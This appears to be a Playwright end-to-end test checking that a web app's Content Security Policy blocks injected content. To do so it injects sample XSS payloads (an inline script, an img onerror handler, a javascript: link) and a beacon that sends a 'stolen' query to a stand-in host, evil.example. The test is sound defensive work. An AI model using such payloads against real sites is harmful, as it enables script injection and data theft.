import { expect, test } from '@/tests/e2e/support/fixtures'

const REFUSED = ['img-src', 'script-src-attr', 'script-src-elem', 'script-src-elem', 'style-src-elem']

/** Puts what an injection would leave into the page; once all of it is refused, returns by which directives, and what ran. */
function inject(count: number) {
  return new Promise<{ refused: string[]; ran: unknown }>((resolve) => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.push(effectiveDirective)
      if (refused.length === count)
        resolve({ refused: refused.sort(), ran: (window as { ran?: unknown }).ran })
    })
    const script = document.createElement('script')
    script.textContent = 'window.ran = "script"'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="window.ran = 1">')
    document.body.insertAdjacentHTML(
      'beforeend',
      '<a id="bait" href="javascript:void(window.ran = 1)">bait</a>',
    )
    document.getElementById('bait')?.click()
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
    new Image().src = 'https://evil.example/?stolen'
  })
}

// The console reports each refusal, which fails every other test: these pages are opened beside the guarded context.
for (const [kind, path] of [
  ['static', '/contact'],
  ['made on demand', '/terms-of-service'],
  ['not there', '/nothing'],
] as const) {
  test(`nothing that was injected into a page runs: ${kind}`, async ({ browser, app }) => {
    const context = await browser.newContext()
    const page = await context.newPage()
    await page.goto(app.url + path)
    const { refused, ran } = await page.evaluate(inject, REFUSED.length)
    expect(ran).toBeUndefined()
    expect(refused).toEqual(REFUSED)
    await context.close()
  })
}
